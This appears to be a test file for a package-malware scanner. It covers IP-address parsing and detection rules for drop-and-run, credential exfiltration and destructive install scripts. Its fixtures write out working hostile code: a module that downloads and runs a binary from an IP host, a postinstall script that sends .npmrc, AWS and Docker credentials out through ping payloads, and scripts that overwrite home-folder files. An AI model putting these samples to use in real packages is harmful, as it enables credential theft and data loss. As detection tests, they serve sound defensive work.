/**
 * Shapes from the twenty-first session: leftovers of round 80's review and rounds 81 onwards,
 * written blind by helpers that had not read the engine. Each is rewritten small and varied here,
 * with a look-alike that must stay quiet or an attack that must still be caught.
 */
import { ipv4Of, isIpHost, publicIpOf } from '../../../src/engine/ip-address';
import { analyzeSource } from './helpers';

const threats = (r: ReturnType<typeof analyzeSource>) =>
  r.evidence.filter((f): f is typeof f & { threat_type: string } => 'threat_type' in f);
const ruleOf = (r: ReturnType<typeof analyzeSource>, rule: string) =>
  threats(r)
    .filter((f) => f.rule === rule)
    .sort((a, b) => b.confidence - a.confidence)[0];

describe('IP addresses in every form a URL parser accepts', () => {
  it('reads decimal, hexadecimal, octal and short IPv4 forms as the address they name', () => {
    expect(ipv4Of('3405803777')).toBe('203.0.113.1');
    expect(ipv4Of('0xcb007101')).toBe('203.0.113.1');
    expect(ipv4Of('0313.0.0161.1')).toBe('203.0.113.1');
    expect(ipv4Of('203.0.29185')).toBe('203.0.114.1');
    expect(ipv4Of('downloads.example')).toBeUndefined();
    expect(ipv4Of('1e3')).toBeUndefined();
  });
  it('calls private, loopback and link-local addresses not public, in any form', () => {
    expect(publicIpOf('0x7f000001')).toBeUndefined();
    expect(publicIpOf('2130706433')).toBeUndefined();
    expect(publicIpOf('[::1]')).toBeUndefined();
    expect(publicIpOf('[fe80::1]')).toBeUndefined();
    expect(publicIpOf('[fd12:3456::1]')).toBeUndefined();
    expect(publicIpOf('[::ffff:192.168.1.4]')).toBeUndefined();
    expect(publicIpOf('[::ffff:203.0.113.9]')).toBeDefined();
    expect(publicIpOf('[2a05:d014:9f2::17]')).toBe('2a05:d014:9f2::17');
    expect(publicIpOf('45.137.21.9')).toBe('45.137.21.9');
  });
  it('knows an IP host from a name', () => {
    expect(isIpHost('[2001:db8::5]')).toBe(true);
    expect(isIpHost('3405803777')).toBe(true);
    expect(isIpHost('cdn7.example')).toBe(false);
  });
});

describe('a download run by code a user calls: the address and the start written other ways', () => {
  const pkg = (url: string, start: string) => ({
    'package.json': JSON.stringify({ name: 'fast-codec-util', version: '1.0.0', main: 'index.js' }),
    'index.js': [
      "const http = require('http');",
      "const fs = require('fs');",
      "const os = require('os');",
      "const path = require('path');",
      "const cp = require('child_process');",
      'function warm() {',
      "  const out = path.join(os.tmpdir(), '.codec-cache');",
      `  http.get(${JSON.stringify(url)}, (res) => {`,
      '    const f = fs.createWriteStream(out);',
      '    res.pipe(f);',
      `    f.on('finish', () => { fs.chmodSync(out, 0o755); ${start}; });`,
      '  });',
      '}',
      'module.exports = { encode(x) { warm(); return Buffer.from(x).toString("base64"); } };',
    ].join('\n'),
  });

  it('raises the chain for a decimal IP as for a dotted one, and a shell `nohup … &` as `detached`', () => {
    const r = analyzeSource(
      pkg('http://3405803777/c/lin64', "cp.exec('nohup ' + out + ' >/dev/null 2>&1 &')"),
    );
    expect(ruleOf(r, 'js.drop-and-run')?.confidence).toBeGreaterThanOrEqual(0.85);
    expect(ruleOf(r, 'js.request-public-ip')?.message).toContain('203.0.113.1');
  });
  it('raises it for a bracketed public IPv6 host started through setsid', () => {
    const r = analyzeSource(pkg('http://[2a05:d014:9f2::17]:8080/c', "cp.exec('setsid ' + out)"));
    expect(ruleOf(r, 'js.drop-and-run')?.confidence).toBeGreaterThanOrEqual(0.85);
  });
  it('does not count `2>&1` or `&&` as a background start', () => {
    const r = analyzeSource(pkg('http://3405803777/c/lin64', "cp.exec(out + ' --check 2>&1 && echo ok')"));
    expect(ruleOf(r, 'js.drop-and-run')?.confidence).toBe(0.8);
  });
  it('does not raise it for a loopback address written in hexadecimal', () => {
    const r = analyzeSource(pkg('http://0x7f000001:9000/c/lin64', 'cp.execFile(out)'));
    expect(ruleOf(r, 'js.drop-and-run')?.confidence).toBe(0.75);
  });
});

describe('an install script that sends credential files by ping payloads from a function run in a subshell', () => {
  const script = (call: string) =>
    [
      '#!/bin/sh',
      'DEST=198.51.100.23',
      'OUT=$(mktemp)',
      'collect() {',
      '  for item in .npmrc .aws/credentials .docker/config.json; do',
      '    [ -f "$HOME/$item" ] && cat "$HOME/$item" >> "$OUT"',
      '  done',
      '  xxd -p "$OUT" | while read -r chunk; do ping -c1 -p "$chunk" "$DEST" >/dev/null; done',
      '}',
      call,
    ].join('\n');
  const pkg = (call: string) => ({
    'package.json': JSON.stringify({
      name: 'mtu-check',
      version: '0.3.1',
      scripts: { postinstall: 'sh tools/check.sh' },
    }),
    'tools/check.sh': script(call),
  });

  it('follows a loop over the files inside the function, called in a backgrounded subshell', () => {
    const r = analyzeSource(pkg('( collect ) >/dev/null 2>&1 &'));
    expect(ruleOf(r, 'script.secret-file-exfil')?.confidence).toBeGreaterThanOrEqual(0.9);
    expect(r.risk_level).toBe('critical');
  });
  it('follows it called as a group with its output discarded', () => {
    const r = analyzeSource(pkg('{ collect; } 2>/dev/null'));
    expect(ruleOf(r, 'script.secret-file-exfil')?.confidence).toBeGreaterThanOrEqual(0.9);
  });
  it('stays quiet when the function only checks that the files exist', () => {
    const quiet = {
      ...pkg('( collect ) >/dev/null 2>&1 &'),
      'tools/check.sh': [
        '#!/bin/sh',
        'check() {',
        '  for item in .npmrc .aws/credentials; do',
        '    [ -f "$HOME/$item" ] && echo "found $item"',
        '  done',
        '  ping -c1 198.51.100.23 >/dev/null && echo reachable',
        '}',
        '( check ) >/dev/null 2>&1 &',
      ].join('\n'),
    };
    expect(ruleOf(analyzeSource(quiet), 'script.secret-file-exfil')).toBeUndefined();
  });
});

describe('a home folder named by a variable: parameter expansions and a `cd` before listing', () => {
  const pkg = (body: string[]) => ({
    'package.json': JSON.stringify({
      name: 'tidy-folders',
      version: '1.0.0',
      scripts: { postinstall: 'sh scripts/tidy.sh Documents Desktop' },
    }),
    'scripts/tidy.sh': ['#!/bin/sh', 'for d in "$@"; do', ...body, 'done'].join('\n'),
  });
  it('reads `${d%/}` as the variable', () => {
    const r = analyzeSource(
      pkg([
        '  find "$HOME/${d%/}" -type f | while read -r f; do',
        '    head -c 4096 /dev/urandom > "$f"',
        '  done',
      ]),
    );
    expect(ruleOf(r, 'script.destructive')?.confidence).toBeGreaterThanOrEqual(0.9);
  });
  it('reads `find .` after `cd "$HOME/$d"` as a listing of that folder', () => {
    const r = analyzeSource(
      pkg(['  cd "$HOME/$d" || continue', '  find . -type f | while read -r f; do : > "$f"; done']),
    );
    expect(ruleOf(r, 'script.destructive')?.confidence).toBeGreaterThanOrEqual(0.9);
  });
  it('stays quiet when the listing after the `cd` picks old logs by name and age', () => {
    const r = analyzeSource(
      pkg([
        '  cd "$HOME/$d" || continue',
        '  find . -name \'*.log\' -mtime +7 | while read -r f; do : > "$f"; done',
      ]),
    );
    expect(ruleOf(r, 'script.destructive')).toBeUndefined();
  });
});
